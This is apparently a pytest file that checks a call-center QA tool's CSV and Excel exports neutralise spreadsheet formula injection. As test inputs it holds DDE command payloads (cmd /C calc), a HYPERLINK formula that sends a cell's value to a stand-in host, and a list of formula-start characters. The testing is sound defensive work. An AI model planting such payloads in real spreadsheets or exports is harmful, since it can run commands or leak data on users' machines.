"""CSV exports hold text a spreadsheet shows, never a formula it runs: call ids, names and reviewers'
comments that start like a formula get a leading `'`; the Excel files are written with formulas off."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import polars as pl
import pytest
from click.testing import CliRunner
from reportdata import build_output

from callqa.cli import main
from reports.exports import neutralise, neutralise_frame
from results.store import ResultStore

HOSTILE = {
    '=HYPERLINK("http://example.invalid/?d="&A1,"点此")': "'=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"点此\")",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "＝1+1": "'＝1+1",  # the full-width sign a Chinese input method types
}
LEFT_AS_THEY_ARE = ["C0001", "张 三", "a=b", "坐席-01", "-3", "+86", "1.5e3", "", "'=quoted already"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.mark.parametrize(("value", "shown"), [*HOSTILE.items(), *((v, v) for v in LEFT_AS_THEY_ARE)])
def test_a_cell_that_starts_like_a_formula_gets_a_quote(value: str, shown: str) -> None:
    assert neutralise(value) == shown


def test_frames_and_rows_are_made_safe_alike() -> None:
    values = [*HOSTILE, *LEFT_AS_THEY_ARE, None]
    frame = pl.DataFrame({"text": values, "number": list(range(len(values)))})
    safe = neutralise_frame(frame)
    assert safe["text"].to_list() == [neutralise(v) for v in values]
    assert safe["number"].to_list() == frame["number"].to_list()  # numbers untouched


def _unsafe_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    return [c for c in cells if c.startswith(FORMULA_START) and not c.lstrip("+-").replace(".", "").isdigit()]


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = build_output(tmp_path_factory.mktemp("csv") / "out")
    store = ResultStore(out)
    result = json.loads(sorted((out / "results").glob("*.json"))[0].read_text(encoding="utf-8"))
    result.update(call_id='=HYPERLINK("http://example.invalid","点此")', agent_id="+cmd|' /C calc'!A0",
                  team="@SUM(1)")
    result["scoring"]["run_id"] = "20991231T000000-formula"
    store.save_result(result["call_id"], result)
    assert store.sync_tables("20991231T000000-formula") == 1
    return out


def test_the_queue_csv_holds_no_formula(out: Path, tmp_path: Path) -> None:
    target = tmp_path / "queue.csv"
    result = CliRunner().invoke(main, ["queue", "--results", str(out), "--csv", str(target), "--xlsx",
                                       str(tmp_path / "queue.xlsx")])
    assert result.exit_code == 0, result.output
    with target.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    (row,) = [r for r in rows if "HYPERLINK" in r["通话"]]
    assert row["通话"] == "'=HYPERLINK(\"http://example.invalid\",\"点此\")"
    assert (row["坐席"], row["班组"]) == ("'+cmd|' /C calc'!A0", "'@SUM(1)")
    assert _unsafe_cells(target) == []
    # the Excel file holds the id as a string (no formula element in any sheet)
    with zipfile.ZipFile(tmp_path / "queue.xlsx") as z:
        strings = z.read("xl/sharedStrings.xml").decode("utf-8")
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert "<t>'=HYPERLINK(\"http://example.invalid\",\"点此\")</t>" in strings
    assert sheets and not any("<f>" in sheet for sheet in sheets)


def test_the_pages_own_csv_export_holds_no_formula(out: Path) -> None:
    from browser import require_browser, start_browser, wait_for

    from reports.site import build_site

    require_browser()
    dest = build_site(out).dest
    driver = start_browser()
    try:
        driver.get((dest / "index.html").as_uri())
        # keep the file the export button hands to the browser, then read it back
        driver.execute_script("window.exported = []; const make = URL.createObjectURL;"
                              "URL.createObjectURL = function (b) { window.exported.push(b); return make(b); };")
        driver.find_element("id", "export-csv").click()
        wait_for(lambda: driver.execute_script("return window.exported.length"), what="the CSV export")
        text = driver.execute_async_script("const done = arguments[arguments.length - 1];"
                                           "window.exported[0].text().then(done);")
    finally:
        driver.quit()
    rows = list(csv.DictReader(text.lstrip("\ufeff").splitlines()))
    (row,) = [r for r in rows if "HYPERLINK" in r["通话"]]
    assert (row["通话"], row["坐席"], row["班组"]) == (
        "'=HYPERLINK(\"http://example.invalid\",\"点此\")", "'+cmd|' /C calc'!A0", "'@SUM(1)")
    assert len(rows) == len(list((out / "results").glob("*.json")))
    assert not [c for r in rows for c in r.values() if c.startswith(FORMULA_START)
                and not c.lstrip("+-").replace(".", "").isdigit()]
